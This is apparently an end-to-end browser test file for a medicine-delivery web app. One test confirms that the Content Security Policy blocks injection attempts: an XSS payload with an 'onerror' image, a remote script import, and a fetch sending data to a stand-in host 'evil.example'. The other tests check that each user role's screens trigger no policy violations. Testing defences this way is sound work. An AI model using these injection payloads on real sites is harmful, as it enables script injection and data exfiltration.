import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { join } from "node:path";
import type { Browser, BrowserContextOptions, Page } from "playwright-core";
import { createMedexClient } from "../../src/sdk/index.ts";
import type { OrderView } from "../../src/shared/orders/order.schema.ts";
import { isWhole } from "../../src/shared/orders/whole.ts";
import { DESK, launchBrowser, PHONE, signInAs, type Visitor, visit } from "../support/browser.ts";
import { aCustodyExport } from "../support/custody-chain.ts";
import { type TestDatabase, testDatabase } from "../support/mongo.ts";
import { startServer, type TestServer } from "../support/process.ts";
import { waitFor } from "../support/wait-for.ts";

/* Every screen with what opens on it, under the policy that the server sends: nothing on them may be refused. */

const PASSWORD = "medex-demo";
const PHARMACY = { latitude: 60.1689, longitude: 24.9408 };
const PHOTO = join(import.meta.dir, "../../examples/parcel.png");

let database: TestDatabase;
let server: TestServer;
let browser: Browser;
let vendor: ReturnType<typeof createMedexClient>;

beforeAll(async () => {
  database = await testDatabase("content_policy");
  server = await startServer({
    mongodbUrl: database.url,
    program: "scripts/start.ts",
    env: { MEDEX_DEMO: "seed" },
    readyTimeoutMs: 120_000,
  });
  vendor = createMedexClient({ url: server.url });
  await vendor.login("vendor@medex.test", PASSWORD);
  browser = await launchBrowser();
}, 180_000);

afterAll(async () => {
  await vendor?.close();
  await browser?.close();
  await server?.[Symbol.asyncDispose]();
  await database?.[Symbol.asyncDispose]();
});

async function openAs(who: string | null, options: BrowserContextOptions): Promise<Visitor> {
  const visitor = await visit(browser, options);
  if (who) await signInAs(visitor.page, server.url, `${who}@medex.test`, PASSWORD);
  return visitor;
}

/** The page's answers to 404s and 401s that a test asks for are no concern of the policy. */
async function expectNothingRefused(visitor: Visitor): Promise<void> {
  const { context, violations, complaints, strangers } = visitor;
  expect(violations).toEqual([]);
  // Maps and all: nobody else learns who looks at what.
  expect(strangers).toEqual([]);
  expect(complaints.filter(text => !/Failed to load resource/.test(text))).toEqual([]);
  await context.close();
}

const see = (page: Page, sign: string | RegExp) => page.getByText(sign).first().waitFor();
const goTo = async (page: Page, path: string, sign: string | RegExp) => {
  await page.goto(server.url + path);
  await see(page, sign);
};
const press = (page: Page, name: string | RegExp) => page.getByRole("button", { name }).first().click();
const overlay = (page: Page) => page.getByRole("dialog").or(page.getByRole("alertdialog")).first();

async function openAndClose(page: Page, name: string | RegExp): Promise<void> {
  await press(page, name);
  await overlay(page).waitFor();
  await page.keyboard.press("Escape");
  await overlay(page).waitFor({ state: "detached" });
}

async function choose(page: Page): Promise<void> {
  await page.getByRole("combobox").first().click();
  await page.getByRole("option").first().click();
}

const orderThat = async (...status: OrderView["status"][]): Promise<OrderView> => {
  const [order] = (await vendor.orders.list.query({ status })).items.filter(isWhole);
  if (!order) throw new Error(`The demo world has no order that is ${status.join(" or ")}`);
  return order;
};

async function acceptedOrder(): Promise<OrderView> {
  const { id } = await vendor.orders.create.mutate({
    vendorId: (await orderThat("delivered")).vendorId,
    delivery: { address: "Aleksanterinkatu 21, Helsinki" },
    items: [{ name: "Insulin glargine", quantity: 1, handling: "chilled" }],
    customerName: "Kaisa Koskela",
    customerPhone: "+358 50 765 4321",
  });
  return vendor.orders.accept.mutate({ orderId: id });
}

describe("a page of ours", () => {
  test("lets nobody add a style, a script, markup or an address, and says so", async () => {
    const { page, context, violations } = await openAs(null, DESK);
    await goTo(page, "/", "To your board");
    const ATTEMPTS = {
      "style-src-elem": () =>
        document.head.append(Object.assign(document.createElement("style"), { textContent: "p{}" })),
      "style-src-attr": () => document.body.setAttribute("style", "color: red"),
      // As text, so that the bundler of this test does not look for it.
      "script-src-elem": 'import("https://evil.example/x.js").catch(() => {})',
      "require-trusted-types-for": () => {
        document.body.innerHTML = "<img src=x onerror=alert(1)>";
      },
      "trusted-types": () => {
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
        ).trustedTypes.createPolicy("mine", {});
      },
      "connect-src": () => void fetch("https://evil.example/?with=everything").catch(() => {}),
      "img-src": () =>
        document.body.append(Object.assign(new Image(), { src: "https://evil.example/x.png" })),
      "base-uri": () =>
        document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example" })),
      "frame-src": () =>
        document.body.append(
          Object.assign(document.createElement("iframe"), { src: "https://evil.example" }),
        ),
    };
    for (const [directive, attempt] of Object.entries(ATTEMPTS)) {
      violations.length = 0;
      await page.evaluate(attempt as () => void).catch(() => {});
      await waitFor(`a report of ${directive}`, () => violations.some(text => text.startsWith(directive)));
    }
    await context.close();
  }, 60_000);
});

describe("nothing is refused", () => {
  test("to a stranger: signing in and up, links of letters, tracking", async () => {
    const visitor = await openAs(null, PHONE);
    const { page } = visitor;
    await goTo(page, "/", "To your board");
    await press(page, "Sign in");
    await goTo(page, "/sign-up", "Create an account");
    await goTo(page, "/forgot-password", "Send the link");
    for (const path of ["/invitation", "/reset-password", "/verify-email"]) {
      await page.goto(`${server.url}${path}#${"x".repeat(32)}`);
      await page.getByRole("heading").first().waitFor();
    }
    await goTo(page, `/track/${(await orderThat("out_for_delivery")).trackingToken}`, /Arrives|Expected/);
    await page.locator(".map-marker").first().waitFor();
    await goTo(page, `/track/${(await orderThat("delivered")).trackingToken}`, "Delivered");
    await page.goto(`${server.url}/track/${"x".repeat(32)}`);
    await page.getByRole("main").getByText(/link/).first().waitFor();
    await goTo(page, "/nowhere", "There is nothing at this address");
    await expectNothingRefused(visitor);
  }, 120_000);

  test("to somebody who checks a chain of custody", async () => {
    const visitor = await openAs(null, DESK);
    const { page } = visitor;
    await goTo(page, "/verify", /public keys? from/);
    const buffer = Buffer.from(JSON.stringify(await aCustodyExport()));
    await page
      .locator("input[type=file]")
      .setInputFiles({ name: "x.json", mimeType: "application/json", buffer });
    await page.getByRole("listitem").first().waitFor();
    await expectNothingRefused(visitor);
  }, 60_000);

  test("to a vendor: board, map, order, menu, dialog, toast, sheets, lists, reports, set-up, account", async () => {
    const visitor = await openAs("vendor", DESK);
    const { page } = visitor;
    await page.locator(".map-marker").first().waitFor();
    const waiting = await acceptedOrder();
    await goTo(page, `/board?sel=${waiting.id}`, waiting.customerName);
    const detail = page.getByRole("article");
    await detail.getByRole("button", { name: "Cancel" }).click();
    await overlay(page).waitFor();
    // The page behind is held still by a style of the library for dialogs.
    expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).toBe("hidden");
    await page.keyboard.press("Escape");
    await overlay(page).waitFor({ state: "detached" });
    expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).not.toBe("hidden");
    await detail.getByRole("button", { name: "Assign" }).click();
    await page.getByRole("menuitem").first().click();
    const toast = page.locator("[data-sonner-toast]").first();
    await toast.waitFor();
    expect(await toast.evaluate(node => getComputedStyle(node).position)).toBe("absolute");
    await openAndClose(page, "New order");
    await page.getByRole("button", { name: "New order" }).hover();
    await goTo(page, `/board?sel=${(await orderThat("delivered")).id}`, "Delivered");
    await goTo(page, "/deliveries", /ORD-\d{8}/);
    await choose(page);
    await goTo(page, "/drivers", "Eero Laine");
    await openAndClose(page, "Eero Laine");
    await openAndClose(page, "Add driver");
    await goTo(page, "/reports", "By driver");
    await goTo(page, "/set-up", "Proof of delivery");
    await goTo(page, "/account", "This device");
    await openAndClose(page, "Set up");
    await expectNothingRefused(visitor);
  }, 120_000);

  test("to a vendor with a phone", async () => {
    const visitor = await openAs("vendor", { ...PHONE, colorScheme: "dark" });
    await visitor.page.getByRole("region", { name: /^Needs you/ }).waitFor();
    await expectNothingRefused(visitor);
  }, 60_000);

  test("to a customer: orders, one order with its map, the form with suggestions", async () => {
    const visitor = await openAs("customer", PHONE);
    const { page } = visitor;
    await page
      .getByRole("link", { name: /ORD-\d{8}/ })
      .first()
      .click();
    await see(page, "From hand to hand");
    await goTo(page, "/orders/new", "Who sends it?");
    await page.getByRole("link", { name: /Aurora/ }).click();
    await page.getByRole("combobox", { name: "Delivery address" }).fill("aleksanterink");
    await page.getByRole("option").first().waitFor();
    await choose(page);
    await press(page, "Order the delivery");
    await expectNothingRefused(visitor);
  }, 60_000);

  test("to a driver: the installed app, duty, an offer, a map, the hand-over", async () => {
    const visitor = await openAs("driver", { ...PHONE, geolocation: PHARMACY, permissions: ["geolocation"] });
    const { page } = visitor;
    await press(page, "Go on duty");
    await see(page, /Position sent/);
    await page.waitForFunction(
      async () => (await navigator.serviceWorker.getRegistration("/driver"))?.active,
    );
    const eero = (await vendor.drivers.list.query({ limit: 50 })).items.find(
      ({ email }) => email === "driver@medex.test",
    );
    if (!eero) throw new Error("The demo world has no Eero");
    const { id } = await acceptedOrder();
    await vendor.orders.assign.mutate({ orderId: id, driverId: eero.id });
    await see(page, "New offer");
    await press(page, "Accept");
    await openAndClose(page, "Navigate");
    await press(page, /^Picked up/);
    await press(page, "Start delivery");
    // What is under way is on the server before the page is opened anew.
    await waitFor("the delivery to have begun", async () => {
      const { status } = await vendor.orders.get.query({ orderId: id });
      return status === "out_for_delivery";
    });
    await page.goto(`${server.url}/driver/orders/${id}/map`);
    await page.locator(".map-marker").first().waitFor();
    await page.goto(`${server.url}/driver`);
    await press(page, "Hand over");
    await page.getByLabel("Photo of the parcel").setInputFiles(PHOTO);
    await page.locator("canvas").waitFor();
    await expectNothingRefused(visitor);
  }, 120_000);

  test("to an administrator: overview, vendors, people, orders, audit", async () => {
    const visitor = await openAs("admin", DESK);
    const { page } = visitor;
    await see(page, "Drivers on duty");
    await goTo(page, "/admin/vendors", "Aurora Pharmacy");
    await openAndClose(page, "Aurora Pharmacy");
    await goTo(page, "/admin/users", "Liisa Virtanen");
    await openAndClose(page, /Liisa Virtanen/);
    await goTo(page, "/admin/orders", /ORD-\d{8}/);
    await choose(page);
    await goTo(page, "/admin/audit", "signed in");
    await expectNothingRefused(visitor);
  }, 60_000);
});
